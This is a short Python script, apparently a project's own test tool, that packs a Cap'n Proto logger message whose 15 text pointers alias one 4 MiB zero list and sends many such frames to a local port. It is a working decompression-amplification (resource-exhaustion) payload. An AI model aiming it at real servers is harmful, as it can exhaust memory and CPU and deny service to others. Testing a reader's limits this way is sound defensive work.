#!/usr/bin/env python3
"""Sends amplification frames (README, Guarantees: "Amplification frames"):
a ~4 KiB packed LoggerMsg whose 15 text pointers all alias one list of
~4 MiB of zero bytes. Structurally valid Cap'n Proto; a reader that charges
nothing for aliased pointers unpacks and formats 15 x 4 MiB per frame.

    scripts/attack/bomb-frames.py PORT [COUNT] [aliased|single]

`single` points only one field at the list: a valid 4 MiB message, for
comparison. Python standard library only.
"""
import socket
import struct
import sys


def payload(zeros, fields):
    count = zeros + 1  # the text's NUL
    words = [0] * 17
    words[0] = (1 << 32) | (15 << 48)  # root: struct, 1 data word, 15 pointers
    words[1] = 3  # level INFO
    for i in fields:
        at, to = 2 + i, 17
        offset = (to - at - 1) & 0x3FFFFFFF
        words[at] = 1 | (offset << 2) | (2 << 32) | (count << 35)  # byte list
    words += [0] * ((count + 7) // 8)
    raw = struct.pack("<II", 0, len(words)) + b"".join(struct.pack("<Q", w) for w in words)
    # Cap'n Proto packing: a tag byte per word, zero runs counted after tag 0.
    out, ws, i = bytearray(), [raw[k:k + 8] for k in range(0, len(raw), 8)], 0
    while i < len(ws):
        w = ws[i]
        i += 1
        tag = sum(1 << k for k in range(8) if w[k])
        out.append(tag)
        out += bytes(b for b in w if b)
        if tag == 0:
            run = 0
            while run < 255 and i < len(ws) and ws[i] == b"\0" * 8:
                run += 1
                i += 1
            out.append(run)
        elif tag == 0xFF:
            out.append(0)
    return bytes(out)


def main():
    port = int(sys.argv[1])
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 20
    mode = sys.argv[3] if len(sys.argv) > 3 else "aliased"
    p = payload(4 * 1024 * 1024 - 4096, range(15) if mode == "aliased" else [7])
    s = socket.create_connection(("127.0.0.1", port))
    for _ in range(n):
        s.sendall(struct.pack(">I", len(p)) + p)
    s.close()
    print(f"sent {n} frames of {len(p)} bytes ({n * (len(p) + 4)} bytes)")


if __name__ == "__main__":
    main()
